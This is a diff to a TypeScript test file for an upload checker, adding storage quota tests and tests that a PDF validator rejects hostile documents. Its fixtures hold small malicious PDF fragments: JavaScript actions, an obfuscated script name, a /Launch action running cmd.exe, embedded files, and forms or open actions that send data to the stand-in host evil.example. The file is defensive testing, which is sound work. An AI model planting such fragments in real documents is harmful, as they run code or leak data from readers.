@@ -10,10 +10,14 @@ import { accreditation } from "#contract/accreditation.ts";
 import { documentTypes } from "#contract/accreditation-actions.ts";
 import { auth } from "#contract/auth.ts";
 import { accreditationDocuments } from "#server/backend/accreditation/tables.ts";
+import type { SignedIn } from "#server/backend/context.ts";
 import { createApp } from "#server/backend/app.ts";
 import { storeDemoFiles } from "#server/backend/db/demo/store-demo-files.ts";
 import { checkUpload, cleanName } from "#server/backend/files/check-upload.ts";
-import { readKind } from "#server/backend/files/file-kind.ts";
+import { foreignPage, readKind } from "#server/backend/files/file-kind.ts";
+import { keepFile } from "#server/backend/files/keep-file.ts";
+import { mostObjectStreams, mostUnpackedBytes, signsOfPdf } from "#server/backend/files/pdf-contents.ts";
+import { type FilePurpose, filePurposes } from "#server/backend/files/quotas.ts";
 import { readLink, signLink } from "#server/backend/files/file-link.ts";
 import { openLocalFiles } from "#server/backend/files/local-files.ts";
 import { sweepFiles } from "#server/backend/files/sweep-files.ts";
@@ -76,6 +80,12 @@ function textOf(file: Buffer): string {
       .join("\n");
   return tables.map(read).join("\n");
 }
+
+const contentPatterns = [
+  { pattern: foreignPage, signs: ["<"] },
+  { pattern: signsOfPdf, signs: ["/"] },
+];
+const small = { bytes: pdf, name: "x.pdf", contentType: "application/pdf" };
 
 const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(26), Buffer.from([0x50, 0x4b, 0x05, 0x06]), Buffer.alloc(18)]);
 
@@ -175,13 +185,91 @@ describe("what is stored", () => {
       ),
     );
     for (const answer of many) expect([200, 429]).toContain(answer.status);
-    const full = await newcomer();
-    await backend.db
-      .insert(files)
-      .values(Array.from({ length: 200 }, () => ({ uuid: uuidv7(), companyUuid: full.companyUuid, name: "x.pdf", contentType: "application/pdf", size: 1 })));
-    const refused = await upload(full);
-    expect([refused.status, refused.errors[0]?.message]).toEqual([409, expect.stringContaining("200")]);
   });
+
+  test.each([
+    ["accreditation", "документов", 200],
+    ["chat", "чатах", 1000],
+    ["ticket", "обращениях", 500],
+  ] as const)("trust S55: files for %s take nobody else's room, and are refused by their own name", async (purpose, word, most) => {
+    const made = await newcomer();
+    const context = { db: backend.db, files: openLocalFiles(backend.filesFolder), now: () => testNow, isGone: () => false } as SignedIn;
+    const keep = (kind: FilePurpose) =>
+      keepFile(context, { ...small, companyUuid: made.companyUuid, purpose: kind }, async () => ({ answer: "kept", replaces: null }));
+    const full = Array.from({ length: most }, () => ({
+      uuid: uuidv7(),
+      companyUuid: made.companyUuid,
+      purpose,
+      name: "x.pdf",
+      contentType: "application/pdf",
+      size: 1,
+    }));
+    await backend.db.insert(files).values(full);
+    await expect(keep(purpose)).rejects.toMatchObject({ message: expect.stringMatching(new RegExp(`Место .*${word}.* не больше ${most} файлов`)) });
+    for (const other of filePurposes.filter((kind) => kind !== purpose)) expect(await keep(other), other).toBe("kept");
+    expect((await upload(made)).status).toBe(purpose === "accreditation" ? 409 : 200);
+  });
+
+  test("trust S55: gigabytes are counted as files are", async () => {
+    const made = await newcomer();
+    await backend.db.insert(files).values({ ...small, uuid: uuidv7(), companyUuid: made.companyUuid, purpose: "accreditation", size: 2 * 1024 ** 3 });
+    const refused = await upload(made);
+    expect([refused.status, refused.errors[0]?.message]).toEqual([409, expect.stringContaining("2 ГБ")]);
+  });
+});
+
+const pdfWith = (...parts: (string | Buffer)[]) => Buffer.concat([pdf.subarray(0, 9), ...parts.map((part) => Buffer.from(part)), pdf.subarray(9)]);
+/** A list of objects, packed as office programs do. */
+const objectStream = (objects: string, names = "/Filter /FlateDecode", packed = deflateSync(objects)) =>
+  pdfWith(`5 0 obj<</Type /ObjStm /N 1 /First 4 ${names} /Length ${packed.length}>>stream\n`, packed, "\nendstream endobj\n");
+
+const scripted: [what: string, bytes: Buffer][] = [
+  ["with a script", pdfWith("2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n")],
+  ["with a script whose name is spelled by codes", pdfWith("2 0 obj<</S /J#61va#53cript /JS 3 0 R>>endobj\n")],
+  ["that starts a program", pdfWith("2 0 obj<</S /Launch /F (cmd.exe)>>endobj\n")],
+  ["with a file inside", pdfWith("2 0 obj<</Type /EmbeddedFile /Length 0>>stream\n\nendstream endobj\n")],
+  ["with a form that sends itself", pdfWith("2 0 obj<</S /SubmitForm /F (https://evil.example)>>endobj\n")],
+  ["with a form that has scripts of its own", pdfWith("2 0 obj<</AcroForm<</XFA [1 0 R]>>>>endobj\n")],
+  ["that opens an address by itself", pdfWith("2 0 obj<</OpenAction <</S /URI /URI (https://evil.example)>>>>endobj\n")],
+  ["with a script in the data of another part", pdfWith("2 0 obj<</Length 40>>stream\n9 0 obj<</S /JavaScript>>endobj endstream endobj\n")],
+  ["with a script in a packed list", objectStream("2 0 <</S /JavaScript /JS (x)>>")],
+  ["with a list packed in a way of its own", objectStream("2 0 <<>>", "/Filter [/ASCII85Decode /FlateDecode]")],
+  ["with a list packed twice", objectStream("2 0 <<>>", "/Filter [/FlateDecode /FlateDecode]")],
+  ["with a list that does not unpack", objectStream("", "/Filter /FlateDecode", Buffer.from("0123456789"))],
+  ["with a list that unpacks to too much", objectStream(" ".repeat(mostUnpackedBytes + 1))],
+  [
+    "with too many lists",
+    pdfWith(
+      ..."x"
+        .repeat(mostObjectStreams + 1)
+        .split("")
+        .map(() => "5 0 obj<</Type/ObjStm>>stream\n1 0 <<>>\nendstream endobj\n"),
+    ),
+  ],
+];
+
+test("trust S50: a document that opens at a page, with links and packed lists, is taken", () => {
+  const plain = [
+    pdfWith("2 0 obj<</OpenAction [3 0 R /XYZ null null 0]>>endobj\n"),
+    pdfWith("2 0 obj<</OpenAction <</S /GoTo /D [3 0 R /Fit]>>>>endobj\n"),
+    pdfWith("2 0 obj<</A <</Type /Action /S /URI /URI (https://gryada.example)>>>>endobj\n"),
+    pdfWith("2 0 obj<</JavaScripts 1 /Launcher (x) /Length 3>>stream\n/XF\nendstream endobj\n"),
+    objectStream("2 0 <</Type /Page>>"),
+    objectStream("2 0 <</Type /Page>>", "", Buffer.from("2 0 <</Type /Page>>")),
+  ];
+  for (const [index, bytes] of plain.entries())
+    expect(checkUpload({ fileBody: base64(bytes), originalFilename: "Устав.pdf" }).contentType, String(index)).toBe("application/pdf");
+});
+
+test("trust S50 S54: nothing that repeats in a pattern of contents reads past the sign that begins a match, so no bytes hold the check up", () => {
+  for (const { pattern, signs } of contentPatterns) {
+    const repeats = pattern.source.match(/(?:\[(?:\\.|[^\]])*\]|\\.|[^\\)])(?:[*+]|\{\d+,\d*\})/g) ?? [];
+    for (const repeat of repeats) {
+      const [, one = "", times = ""] = /^(.*?)([*+]|\{\d+,\d*\})$/s.exec(repeat) ?? [];
+      expect(times, repeat).toMatch(/^\{\d,\d{1,3}\}$/);
+      for (const sign of signs) expect(new RegExp(`^${one}$`, pattern.flags).test(sign), `${repeat} reads past ${sign}`).toBe(false);
+    }
+  }
 });
 
 describe("what is refused, with the file's name", () => {
@@ -199,6 +287,7 @@ describe("what is refused, with the file's name", () => {
     ["a document with a page's head", "Устав.pdf", Buffer.concat([pdf.subarray(0, 9), html, pdf.subarray(9)]), 415],
     ["a document before which a page stands", "Устав.pdf", Buffer.concat([html, pdf]), 415],
     ["a document that ends as an archive", "Устав.pdf", Buffer.concat([pdf, zip]), 415],
+    ...scripted.map(([what, bytes]) => [`a document ${what}`, "Устав.pdf", bytes, 415] as [string, string, Buffer, number]),
     ["a cut document", "Устав.pdf", pdf.subarray(0, 20), 415],
     ["a picture with something behind it", "Устав.png", Buffer.concat([png(10, 10), Buffer.from("tail")]), 415],
     ["a picture that ends as an archive", "Устав.jpg", Buffer.concat([jpeg(), zip]), 415],
